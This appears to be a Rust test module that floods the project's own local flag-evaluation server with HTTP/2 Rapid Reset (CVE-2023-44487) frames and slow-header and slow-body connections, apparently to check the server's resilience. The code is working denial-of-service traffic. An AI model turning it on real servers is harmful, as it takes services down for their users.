//! Connections that mean harm: opened, kept, and opened again when the server has had enough of them.

use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::task::JoinSet;
use tokio::time::{sleep, timeout};

use crate::Failure;
use crate::server::Ports;

/// How a connection does harm.
#[derive(Debug, Clone, Copy)]
pub(crate) enum Harm {
    /// Opens a thousand HTTP/2 streams and takes each back at once, every second (CVE-2023-44487).
    RapidReset,
    /// Sends the head of a request, a byte at a time.
    SlowHeader,
    /// Sends a request's body, a byte at a time.
    SlowBody,
}

impl Harm {
    pub(crate) const ALL: [Self; 3] = [Self::RapidReset, Self::SlowHeader, Self::SlowBody];
}

/// Streams that are opened and taken back in one go.
const RESETS: u32 = 1_000;
/// Between bytes, and before a connection is opened again.
const PAUSE: Duration = Duration::from_secs(1);

/// Connections that are closed when dropped.
pub(crate) struct Crowd(JoinSet<()>);

impl Crowd {
    /// Opens `many` connections within a second, each kind of harm in turn. All at once they would hold up the load's own core,
    /// and honest clients with it.
    pub(crate) fn gather(many: u32, ports: Ports) -> Result<Self, Failure> {
        let burst = resets()?;
        let mut tasks = JoinSet::new();
        for (harm, at) in Harm::ALL.into_iter().cycle().zip(0..many) {
            let burst = burst.clone();
            tasks.spawn(async move {
                sleep(PAUSE * at / many).await;
                loop {
                    // A server that refuses or hangs up is asked again: that is the harm.
                    let _ = match harm {
                        Harm::RapidReset => rapid_reset(ports.evaluation, &burst).await,
                        Harm::SlowHeader => drip(ports.ofrep, b"", HEAD.repeat(100).as_bytes()).await,
                        Harm::SlowBody => drip(ports.ofrep, BODY_HEAD.as_bytes(), &[b' '; 4_000]).await,
                    };
                    sleep(PAUSE).await;
                }
            });
        }
        Ok(Self(tasks))
    }

    /// How many connections there are.
    pub(crate) fn len(&self) -> u32 {
        u32::try_from(self.0.len()).unwrap_or(u32::MAX)
    }
}

const HEAD: &str = "POST /ofrep/v1/evaluate/flags/R2 HTTP/1.1\r\nx-slow: ";
const BODY_HEAD: &str = "POST /ofrep/v1/evaluate/flags/R2 HTTP/1.1\r\nhost: slow\r\n\
    content-type: application/json\r\ncontent-length: 4000\r\n\r\n";

async fn drip(port: u16, at_once: &[u8], slowly: &[u8]) -> std::io::Result<()> {
    let mut stream = TcpStream::connect(("127.0.0.1", port)).await?;
    stream.write_all(at_once).await?;
    for byte in slowly {
        stream.write_all(std::slice::from_ref(byte)).await?;
        // What is answered, and that the server hangs up, shows here.
        if let Ok(read) = timeout(PAUSE, stream.read(&mut [0; 1_024])).await
            && read? == 0
        {
            return Ok(());
        }
    }
    Ok(())
}

async fn rapid_reset(port: u16, burst: &[u8]) -> std::io::Result<()> {
    let mut stream = TcpStream::connect(("127.0.0.1", port)).await?;
    stream.write_all(burst).await?;
    let mut heard = [0; 4_096];
    // Until the server says that it is enough, or has nothing more to say.
    while let Ok(read) = timeout(PAUSE, stream.read(&mut heard)).await {
        if read? == 0 {
            break;
        }
    }
    Ok(())
}

/// A connection's preface, and then streams without end.
fn resets() -> Result<Vec<u8>, Failure> {
    const HEADERS: u8 = 1;
    const RST_STREAM: u8 = 3;
    const SETTINGS: u8 = 4;
    const END_HEADERS: u8 = 4;
    const CANCEL: [u8; 4] = [0, 0, 0, 8];
    let mut bytes = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
    frame(&mut bytes, SETTINGS, 0, 0, &[])?;
    // POST and http of the static table; path and authority as literals that are not indexed (RFC 7541).
    let mut head = vec![0x83, 0x86];
    for (name, value) in [(0x04, "/flagd.evaluation.v1.Service/ResolveBoolean"), (0x01, "reset")] {
        head.extend([name, u8::try_from(value.len())?]);
        head.extend(value.bytes());
    }
    for at in 0..RESETS {
        let stream = 2 * at + 1;
        frame(&mut bytes, HEADERS, END_HEADERS, stream, &head)?;
        frame(&mut bytes, RST_STREAM, 0, stream, &CANCEL)?;
    }
    Ok(bytes)
}

fn frame(bytes: &mut Vec<u8>, kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Result<(), Failure> {
    bytes.extend(&u32::try_from(payload.len())?.to_be_bytes()[1..]);
    bytes.extend([kind, flags]);
    bytes.extend(stream.to_be_bytes());
    bytes.extend(payload);
    Ok(())
}
